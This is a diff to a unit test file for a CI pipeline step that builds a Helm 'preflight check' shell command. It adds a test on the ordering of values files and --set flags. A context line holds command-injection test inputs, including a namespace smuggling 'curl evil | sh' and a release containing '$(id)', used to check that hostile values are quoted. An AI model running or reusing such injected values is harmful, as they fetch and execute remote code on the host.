@@ -59,6 +59,15 @@ exit "$rc"
     }
 
     @Test
+    void a_chart_is_rendered_with_its_values_files_and_sets_in_order() {
+        j.shell = Reports.preflight(j, 0, Reports.HEALTHY)
+        gate(namespace: 'shop', release: 'web', chart: 'charts/web', values: ['prod.yaml', 'eu.yaml'], set: ['image.tag=1.2'])
+        assertEquals('preflight check --namespace shop --release web --chart charts/web -f prod.yaml -f eu.yaml ' +
+            '--set image.tag=1.2 --junit preflight-junit.xml -o json >preflight.json 2>preflight.stderr || rc=$?',
+            j.callsOf('sh')[0].args.script.readLines()[2])
+    }
+
+    @Test
     void hostile_values_are_quoted_into_single_words() {
         j.shell = Reports.preflight(j, 0, Reports.HEALTHY)
         gate(namespace: "shop'; curl evil | sh; '", release: 'web $(id)')
